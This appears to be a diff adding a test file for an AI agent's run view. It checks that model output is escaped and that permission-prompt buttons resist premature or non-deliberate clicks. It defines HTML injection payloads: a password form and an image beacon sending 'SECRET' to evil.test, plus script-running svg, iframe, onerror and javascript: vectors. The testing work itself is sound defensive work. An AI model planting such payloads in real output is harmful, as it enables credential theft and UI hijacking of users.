@@ -1,0 +1,218 @@
+/**
+ * Every piece of model output the view shows, carrying HTML payloads, and the prompts' buttons
+ * under clicks that are not deliberate or come too early.
+ */
+import { beforeEach, describe, expect, it, vi } from "vitest";
+import type { Action } from "../src/actions";
+import { reduceAll } from "../src/reducer";
+import { ARM_DELAY_MS, isDeliberate, shownInViewport, type PromptGuard } from "../src/view/guard";
+import { RunView } from "../src/view/run-view";
+import { FakeClock } from "./clock";
+import { envelope, type Envelope } from "./helpers";
+
+const PAYLOAD = [
+  "<style>body{background:red}</style>",
+  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
+  '<form action="https://evil.test/"><input type="password" name="pw"><button>Approve</button></form>',
+  '<img src="https://evil.test/x.png?d=SECRET" onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"></svg><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<a href="javascript:window.pwned=1">link</a>',
+].join(" ");
+
+/** Elements no model output may create in the view. */
+const FOREIGN = "style, form, input, button:not(.neta-button), iframe, svg, script, img, div[style], a[href^=javascript]";
+
+let container: HTMLElement;
+let clock: FakeClock;
+let onAction: ReturnType<typeof vi.fn<(action: Action) => Promise<void>>>;
+let view: RunView;
+const seen = { visible: true, deliberate: true, watchers: new Set<(visible: boolean) => void>() };
+const guard: PromptGuard = {
+  observe(_element, onChange) {
+    seen.watchers.add(onChange);
+    onChange(seen.visible);
+    return () => seen.watchers.delete(onChange);
+  },
+  deliberate: () => seen.deliberate,
+};
+
+function setVisible(visible: boolean): void {
+  seen.visible = visible;
+  for (const watcher of seen.watchers) watcher(visible);
+}
+
+beforeEach(() => {
+  document.body.replaceChildren();
+  container = document.createElement("div");
+  document.body.append(container);
+  clock = new FakeClock();
+  onAction = vi.fn<(action: Action) => Promise<void>>(async () => {});
+  seen.visible = true;
+  seen.deliberate = true;
+  seen.watchers.clear();
+  view = new RunView(container, { prompt: PAYLOAD, onAction, resolveUrl: () => null, clock, guard });
+});
+
+function show(events: Envelope[]): void {
+  view.update(reduceAll(events));
+  clock.runFrames();
+}
+
+function byTestId(id: string): HTMLElement {
+  const found = container.querySelector<HTMLElement>(`[data-testid="${id}"]`);
+  if (!found) throw new Error(`no ${id}`);
+  return found;
+}
+
+const code = "import os\nprint('<b>x</b>')";
+const args = JSON.stringify({ code: `${code}\n# ${PAYLOAD}` });
+
+/** A run that puts the payload everywhere model output shows, then asks for permission. */
+function hostileRun(): Envelope[] {
+  let seq = 0;
+  const e = (type: string, data: Record<string, unknown>) => envelope(type, seq++, data);
+  return [
+    e("SESSION_CREATED", { type: "session", sessionId: "s" }),
+    e("REASONING_START", { type: "reasoning", text: PAYLOAD }),
+    e("REASONING_END", { type: "reasoning", text: "" }),
+    e("TODO_UPDATE", { type: "todo", items: [{ id: "t", content: PAYLOAD, status: "pending" }] }),
+    e("TOOL_START", { type: "tool", toolCallId: "c1", toolName: "read_file", arguments: JSON.stringify({ path: PAYLOAD }) }),
+    e("TOOL_RUNNING", { type: "tool", toolCallId: "c1", title: PAYLOAD }),
+    e("TOOL_COMPLETED", { type: "tool", toolCallId: "c1", output: PAYLOAD, durationMs: 1 }),
+    e("TEXT_START", { type: "text", text: PAYLOAD }),
+    e("TEXT_END", { type: "text", text: "" }),
+    e("TOOL_CALL_GENERATING", { type: "tool", toolCallId: "c2", toolName: "python" }),
+    e("TOOL_CALL_GENERATING", { type: "tool", toolCallId: "c2", arguments: args.slice(0, 20) }),
+    e("TOOL_CALL_GENERATING", { type: "tool", toolCallId: "c2", arguments: args.slice(20) }),
+    e("PERMISSION_ASK", {
+      type: "permission_ask",
+      askId: "ask_1",
+      toolName: "python",
+      toolCallId: "c2",
+      arguments: args,
+      ruleDescription: PAYLOAD,
+      rulePattern: PAYLOAD,
+    }),
+    e("MESSAGE_SUSPENDED", { type: "message", suspendReason: { type: "PERMISSION_ASK", askId: "ask_1" } }),
+  ];
+}
+
+function clarifyRun(): Envelope[] {
+  return [
+    envelope("SESSION_CREATED", 0, { type: "session", sessionId: "s" }),
+    envelope("CLARIFY_REQUEST", 1, { type: "clarify", clarifyId: "cl", question: PAYLOAD, options: [PAYLOAD, "b"] }),
+    envelope("MESSAGE_SUSPENDED", 2, { type: "message", suspendReason: { type: "CLARIFY_REQUEST", askId: "cl" } }),
+  ];
+}
+
+describe("model output in every part of the view", () => {
+  it("creates no element of its own in the answer, reasoning, todos, tools, toasts or prompts", () => {
+    show(hostileRun());
+    expect(container.querySelectorAll(FOREIGN)).toHaveLength(0);
+    // Shown as text where text is expected (all but the answer, which is markdown).
+    for (const id of ["neta-reasoning", "neta-todo", "neta-tool-output", "neta-permission"]) {
+      expect(byTestId(id).textContent, id).toContain("<style>body{background:red}</style>");
+    }
+    expect(byTestId("neta-answer").textContent).toContain("cover");
+    expect(container.textContent).toContain('<form action="https://evil.test/">');
+  });
+
+  it("in a status toast, too", () => {
+    show([envelope("AGENT_STATUS", 0, { type: "agent_status", code: "X", level: "WARN", message: PAYLOAD })]);
+    expect(container.querySelectorAll(FOREIGN)).toHaveLength(0);
+    expect(byTestId("neta-toast").textContent).toBe(PAYLOAD);
+  });
+
+  it("in a clarify request, too", () => {
+    show(clarifyRun());
+    expect(container.querySelectorAll(FOREIGN)).toHaveLength(0);
+    expect(byTestId("neta-clarify").textContent).toContain("<iframe srcdoc=");
+  });
+
+  it("shows a call waiting for approval with its code highlighted, in its card and in the prompt", () => {
+    show(hostileRun());
+    const card = container.querySelector<HTMLElement>('[data-testid=neta-tool-card][data-tool-call-id="c2"]');
+    const cardCode = card?.querySelector(".neta-tool-args code");
+    expect(cardCode?.className).toBe("hljs language-python");
+    expect(cardCode?.textContent).toBe(`${code}\n# ${PAYLOAD}`);
+    expect(cardCode?.querySelector(".hljs-keyword")?.textContent).toBe("import");
+    const promptCode = byTestId("neta-permission").querySelector(".neta-permission-args code");
+    expect(promptCode?.className).toBe("hljs language-python");
+    expect(promptCode?.querySelector(".hljs-keyword")?.textContent).toBe("import");
+    expect(promptCode?.textContent).toBe(`${code}\n# ${PAYLOAD}`);
+  });
+});
+
+describe("prompt buttons", () => {
+  const approve = () => byTestId("neta-approve") as HTMLButtonElement;
+
+  it("are disarmed until the prompt has been in view for a moment", () => {
+    show(hostileRun());
+    expect(approve().disabled).toBe(true);
+    expect(approve().dataset["armed"]).toBe("false");
+    approve().click();
+    clock.advance(ARM_DELAY_MS - 1);
+    approve().click();
+    expect(onAction).not.toHaveBeenCalled();
+    clock.advance(1);
+    expect(approve().disabled).toBe(false);
+    approve().click();
+    expect(onAction).toHaveBeenCalledWith({ action: "resume", askId: "ask_1", approved: true, always: false });
+  });
+
+  it("wait again from the start when the prompt leaves the view", () => {
+    setVisible(false);
+    show(hostileRun());
+    clock.advance(5 * ARM_DELAY_MS);
+    expect(approve().disabled).toBe(true);
+    setVisible(true);
+    clock.advance(ARM_DELAY_MS / 2);
+    setVisible(false);
+    setVisible(true);
+    clock.advance(ARM_DELAY_MS / 2);
+    expect(approve().disabled).toBe(true);
+    clock.advance(ARM_DELAY_MS / 2);
+    expect(approve().disabled).toBe(false);
+    setVisible(false);
+    expect(approve().disabled).toBe(true);
+  });
+
+  it("ignore clicks that are not deliberate", () => {
+    show(hostileRun());
+    clock.advance(ARM_DELAY_MS);
+    seen.deliberate = false;
+    for (const id of ["neta-approve", "neta-always", "neta-deny"]) byTestId(id).click();
+    expect(onAction).not.toHaveBeenCalled();
+  });
+
+  it("of a clarify request are guarded the same way, Ctrl+Enter included", () => {
+    show(clarifyRun());
+    const option = container.querySelector<HTMLButtonElement>("[data-testid=neta-clarify-option]");
+    const input = byTestId("neta-clarify-input") as HTMLTextAreaElement;
+    input.value = "my answer";
+    const ctrlEnter = () => input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", ctrlKey: true, bubbles: true }));
+    expect(option?.disabled).toBe(true);
+    ctrlEnter();
+    clock.advance(ARM_DELAY_MS);
+    seen.deliberate = false;
+    option?.click();
+    byTestId("neta-clarify-send").click();
+    ctrlEnter();
+    expect(onAction).not.toHaveBeenCalled();
+    seen.deliberate = true;
+    ctrlEnter();
+    expect(onAction).toHaveBeenCalledWith({ action: "resume", askId: "cl", answer: "my answer" });
+  });
+});
+
+describe("the browser's checks", () => {
+  it("refuse events a script made, and controls that are not laid out", () => {
+    const button = document.createElement("button");
+    document.body.append(button);
+    expect(isDeliberate(new MouseEvent("click", { detail: 1, clientX: 1, clientY: 1 }), button)).toBe(false);
+    expect(isDeliberate(new KeyboardEvent("keydown", { key: "Enter" }), button)).toBe(false);
+    // jsdom lays nothing out: a control of no size is not shown.
+    expect(shownInViewport(button)).toBe(false);
+    expect(shownInViewport(document.createElement("button"))).toBe(false);
+  });
+});
